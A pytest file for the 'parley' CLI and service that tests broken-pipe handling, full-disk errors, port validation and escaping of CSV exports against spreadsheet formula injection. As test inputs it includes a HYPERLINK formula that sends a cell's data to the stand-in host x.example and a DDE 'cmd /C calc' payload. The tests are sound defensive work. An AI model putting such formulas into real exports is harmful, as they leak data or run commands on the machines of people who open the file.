"""The command line when its output or its disk goes away, and the CSV files it writes when the
data is hostile: a closed pipe ends `parley run` quietly, a full disk is one line, and no
spreadsheet runs a cell of an export, from the CLI or the service."""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import pathlib
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner
from service_support import sample_scenarios, service, wait_for

from parley.core.store.store import Store
from parley.tui.cli.main import cli

ROOT = Path(__file__).resolve().parent.parent
PARLEY = Path(sys.executable).parent / "parley"
PROFILES = ROOT / "profiles"
PLAYBOOK = PROFILES / "playbooks" / "track_pending_order.yaml"

# ---- a closed pipe ------------------------------------------------------------------------------


@pytest.mark.parametrize("extra", [[], ["--single", "0"]], ids=["batch", "single"])
def test_parley_run_into_head_3_exits_quietly(tmp_path, extra):
    db = tmp_path / "p.db"
    env = {**os.environ, "NO_COLOR": "1"}
    # `parley run profiles/ | head -3`: read three lines, then close the pipe as head does.
    proc = subprocess.Popen(
        [str(PARLEY), "run", str(PROFILES), "--db", str(db), *extra],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=env,
    )
    assert proc.stdout is not None and proc.stderr is not None
    lines = [proc.stdout.readline() for _ in range(3 if not extra else 2)]
    proc.stdout.close()
    err = proc.stderr.read().decode()
    code = proc.wait(timeout=120)
    assert all(lines)
    assert code == 141, err
    # Nothing but the loader's own notes (which file each personality was read from) and the
    # warnings before a batch (what the offline roles will not read):
    # no "Task exception was never retrieved", no BrokenPipeError, no traceback.
    assert all(line.startswith(("note: ", "warning: ")) for line in err.splitlines()), err
    with Store.open(db, read_only=True) as store:
        [batch] = store.list_batches()
    assert batch.batch.status == "cancelled"  # stopped and stored: `parley run --resume` continues it


# ---- a full disk --------------------------------------------------------------------------------


def test_a_full_disk_fails_the_batch_and_the_command_says_so_in_one_line(tmp_path, monkeypatch):
    full = OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    def no_space(self, *args, **kwargs):
        raise full

    def disk_full(self, *args, **kwargs):
        raise sqlite3.OperationalError("database or disk is full")

    db = tmp_path / "p.db"
    Store.open(db).close()
    monkeypatch.setattr(Store, "save_conversation", disk_full)
    monkeypatch.setattr(pathlib.Path, "write_text", no_space)
    result = CliRunner().invoke(cli, ["run", str(PLAYBOOK), "--db", str(db)])
    assert result.exit_code == 1, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert "Traceback" not in result.output
    report = tmp_path / "reports"
    error_lines = [line for line in result.output.splitlines() if line.startswith("error:")]
    assert error_lines == [f"error: cannot write the report {report}/{_batch_id(db)}.md: No space left on device"]
    assert "Report: not written (No space left on device)" in result.output
    with Store.open(db, read_only=True) as store:
        batch = store.get_batch(_batch_id(db))
    assert batch.status == "failed" and "database or disk is full" in (batch.error or "")


def _batch_id(db: Path) -> str:
    with Store.open(db, read_only=True) as store:
        return store.latest_batch_id() or ""


# ---- CSV injection ------------------------------------------------------------------------------

# Cells a spreadsheet would run (OWASP: a leading =, +, -, @, tab or carriage return), and a NUL.
# Scenario names (the loader strips a leading tab or CR from those; the prompt version keeps it).
FORMULAS = ['=HYPERLINK("http://x.example/?q="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)"]
PROMPT_VERSION = "\t=1+1"


def hostile_scenarios() -> list[dict]:
    first = sample_scenarios()[0]
    scenarios = [{"name": formula, "variables": dict(first["variables"])} for formula in FORMULAS]
    scenarios[0]["variables"]["PERSONALITY"] = "calm\x00with a NUL"
    return scenarios


def check_csv(text: str) -> None:
    assert "\x00" not in text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert sorted(r["scenario"] for r in rows) == sorted("'" + f for f in FORMULAS)
    assert {r["name"] for r in rows} == {"'" + f for f in FORMULAS}
    prompt = {r["prompt_version"] for r in rows}
    assert prompt == {"'" + PROMPT_VERSION}
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert any("\ufffd" in r["variables"] or "\\u0000" in r["variables"] for r in rows)


def test_the_csv_export_of_the_cli_runs_no_formula_and_holds_no_nul(tmp_path):
    scenarios = tmp_path / "hostile.json"
    scenarios.write_text(json.dumps({"scenarios": hostile_scenarios()}), encoding="utf-8")
    db = tmp_path / "p.db"
    ran = CliRunner().invoke(cli, ["run", str(scenarios), "--db", str(db), "--prompt-version", PROMPT_VERSION])
    assert ran.exit_code in (0, 1), ran.output
    out = tmp_path / "results.csv"
    exported = CliRunner().invoke(cli, ["report", "latest", "--db", str(db), "--format", "csv", "--output", str(out)])
    assert exported.exit_code == 0, exported.output
    check_csv(out.read_bytes().decode("utf-8"))
    shown = CliRunner().invoke(cli, ["report", "latest", "--db", str(db), "--format", "csv"])
    check_csv(shown.output)
    markdown = tmp_path / "report.md"
    CliRunner().invoke(cli, ["report", "latest", "--db", str(db), "--output", str(markdown)])
    assert b"\x00" not in markdown.read_bytes()


async def test_the_csv_results_of_the_service_run_no_formula_and_hold_no_nul(tmp_path):
    body = {"scenarios": hostile_scenarios(), "prompt_version": PROMPT_VERSION}
    async with service(tmp_path) as client:
        launched = await client.post("/api/batches", json=body)
        assert launched.status_code == 201, launched.text
        batch_id = launched.json()["batch_id"]
        await wait_for(client, batch_id)
        response = await client.get(f"/api/batches/{batch_id}/results", params={"format": "csv"})
    assert response.status_code == 200
    check_csv(response.content.decode("utf-8"))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a\x00b", "a\ufffdb"),
        ("plain", "plain"),
        (-1, -1),
        (2.5, 2.5),
        ("", ""),
    ],
)
def test_a_cell_is_written_so_no_spreadsheet_runs_it(value, written):
    from parley.core.reports.cell_escaping import spreadsheet_cell

    assert spreadsheet_cell(value) == written


@pytest.mark.parametrize(
    ("value", "written"),
    [('x\r=HYPERLINK("http://e")', 'x\r\'=HYPERLINK("http://e")'), ("a\n+1\n@x", "a\n'+1\n'@x"), ("list:\n- one", "list:\n- one")],
)
def test_a_formula_after_a_line_break_is_neutralised_too(value, written):
    from parley.core.reports.cell_escaping import spreadsheet_cell

    assert spreadsheet_cell(value) == written


def test_a_carriage_return_in_a_cell_keeps_the_row_whole(tmp_path):
    # On main `lineterminator="\n"` left a lone \r unquoted: one conversation became 4 rows and
    # three cells started with `=`.
    profile = tmp_path / "cr.yaml"
    text = (Path(__file__).resolve().parent.parent / "profiles" / "track_shipped_order.yaml").read_text(encoding="utf-8")
    profile.write_text("\n".join('test_name: "\\r=1+1"' if line.startswith("test_name:") else line for line in text.splitlines()))
    db = tmp_path / "p.db"
    assert CliRunner().invoke(cli, ["run", str(profile), "--db", str(db)]).exit_code == 0
    out = tmp_path / "results.csv"
    assert CliRunner().invoke(cli, ["report", "latest", "--db", str(db), "--format", "csv", "--output", str(out)]).exit_code == 0
    raw = out.read_bytes().decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(raw, newline="")))
    assert len(rows) == 1 and rows[0]["name"] == "'\r'=1+1"
    naive = [cell for line in raw.replace("\r", "\n").split("\n") for cell in line.split(",")]
    assert not any(cell.startswith("=") for cell in naive)


@pytest.mark.parametrize(
    ("args", "env", "says"),
    [
        (
            ["--bot", "rasa:http://127.0.0.1:99999/"],
            {},
            "rasa:URL: 'http://127.0.0.1:99999/': its port '99999' is not a number from 0 to 65535",
        ),
        (["--bot", "taskyto:http://127.0.0.1:-1/"], {}, "its port '-1' is not a number from 0 to 65535"),
        (["--bot", "http:BOT"], {}, "base_url: 'http://127.0.0.1:70000/': its port '70000' is not a number from 0 to 65535"),
        (
            ["--bot", "openai-api/k/m"],
            {"K_BASE_URL": "http://127.0.0.1:99999/v1", "K_API_KEY": "x"},
            "K_BASE_URL 'http://127.0.0.1:99999/v1': its port '99999' is not a number from 0 to 65535",
        ),
    ],
)
def test_a_port_outside_0_to_65535_is_one_line(tmp_path, args, env, says):
    # On main: a 137-line ExceptionGroup ... OverflowError traceback from the socket.
    bot = tmp_path / "bot.yaml"
    bot.write_text("base_url: http://127.0.0.1:70000/\nsend_message: {path: /chat}\nresponse_path: text\n", encoding="utf-8")
    args = [a.replace("http:BOT", f"http:{bot}") for a in args]
    playbook = Path(__file__).resolve().parent.parent / "profiles" / "playbooks" / "track_shipped_order.yaml"
    result = CliRunner().invoke(cli, ["run", str(playbook), *args, "--db", str(tmp_path / "p.db")], env=env)
    assert result.exit_code in (1, 2), result.output
    assert says in result.output and "Traceback" not in result.output and "OverflowError" not in result.output
